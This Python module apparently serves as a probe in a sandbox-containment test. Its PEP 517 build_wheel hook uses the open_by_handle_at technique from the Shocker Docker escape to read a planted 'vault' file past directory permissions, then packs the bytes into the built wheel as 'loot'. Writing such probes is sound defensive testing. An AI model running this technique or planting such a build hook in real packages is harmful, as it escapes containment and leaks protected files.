"""Asks for the handle of a file and opens the file by that handle alone.

A handle is a number and knows no directories: no mount and no mode of a parent stands in
the way. Shocker guessed the handle of the host's root from within a Docker container.
"""

import ctypes
import os

import calls
import kit

AT_FDCWD = -100


def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
    loot = {}
    with kit.attempt("open-handle"):
        path = kit.plant("vault").path
        # struct file_handle: size of the handle, its type, then up to 128 bytes
        handle = (ctypes.c_char * 136)(*(128).to_bytes(4, "little"))
        mount = ctypes.byref(ctypes.c_int())
        ask, open_by = calls.libc.name_to_handle_at, calls.libc.open_by_handle_at
        calls.checked(ask(AT_FDCWD, path.encode(), handle, mount, 0), "name_to_handle_at")
        root = os.open(os.path.dirname(os.path.dirname(path)), os.O_RDONLY)
        opened = calls.checked(open_by(root, handle, os.O_RDONLY), "open_by_handle_at")
        loot["data.bin"] = os.read(opened, 4096)
    return kit.wheel(wheel_directory, loot)
